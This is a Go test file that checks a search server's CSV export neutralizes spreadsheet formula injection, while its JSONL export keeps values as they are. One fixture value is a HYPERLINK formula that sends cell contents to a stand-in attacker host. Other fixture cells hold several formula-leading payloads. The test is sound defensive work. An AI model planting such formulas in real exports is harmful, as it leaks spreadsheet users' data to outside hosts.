package server

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/url"
	"strings"
	"testing"

	"github.com/govsearch/govsearch"
)

// formulaSearcher answers every export with hits whose fields start the
// way a spreadsheet formula does.
type formulaSearcher struct {
	Searcher
	hits []govsearch.Hit
}

func (f formulaSearcher) Each(ctx context.Context, q govsearch.Query, fn func(govsearch.Hit) error) (int, error) {
	for _, h := range f.hits {
		if err := fn(h); err != nil {
			return 0, err
		}
	}
	return len(f.hits), nil
}

func TestExportNeutralizesFormulas(t *testing.T) {
	hits := []govsearch.Hit{{
		ID: "=1+1", DocID: "+doc", Title: `=HYPERLINK("http://evil.example/?x="&A1,"点击")`, Province: "-2+3",
		City: "@SUM(A1:A9)", District: "\t=1", Year: 2021, Date: "2021-01-01", DocType: "\r=1", Section: "-",
		SectionPath: []string{"=A1", "二级"}, Position: 3, Text: "增长=14.9%，+1 不在开头", Highlight: "x",
	}, {
		ID: "p2", DocID: "d2", Title: "和平区人民政府工作报告", Position: 1, Text: "营商环境",
	}}
	s := New(formulaSearcher{Searcher: seedIndex(t), hits: hits}, Config{Logger: slog.New(slog.NewTextHandler(io.Discard, nil))}, nil)
	rec := get(t, s, "/api/export?format=csv&q="+url.QueryEscape("税"))
	recs, err := csvRecords(rec.Body.String())
	if err != nil || len(recs) != 3 {
		t.Fatalf("csv: %d records, %v: %s", len(recs), err, rec.Body)
	}
	for _, row := range recs[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: cell %q would be evaluated", recs[0][i], cell)
			}
		}
	}
	want := map[string]string{
		"id": "'=1+1", "doc_id": "'+doc", "title": `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`, "province": "'-2+3",
		"city": "'@SUM(A1:A9)", "district": "'\t=1", "doc_type": "'\r=1", "section": "'-", "section_path": "'=A1 › 二级",
		"text": "增长=14.9%，+1 不在开头", "year": "2021", "position": "3",
	}
	for i, col := range recs[0] {
		if w, ok := want[col]; ok && recs[1][i] != w {
			t.Errorf("column %s = %q, want %q", col, recs[1][i], w)
		}
	}
	if strings.Join(recs[2][:3], "|") != "p2|d2|和平区人民政府工作报告" {
		t.Errorf("plain row changed: %q", recs[2])
	}
	// JSON lines carry the values as they are.
	rec = get(t, s, "/api/export?format=jsonl&q="+url.QueryEscape("税"))
	var first govsearch.Hit
	if err := json.Unmarshal([]byte(strings.SplitN(rec.Body.String(), "\n", 2)[0]), &first); err != nil {
		t.Fatal(err)
	}
	if first.Title != hits[0].Title || first.ID != "=1+1" || first.District != "\t=1" {
		t.Errorf("jsonl changed the values: %+v", first)
	}
}
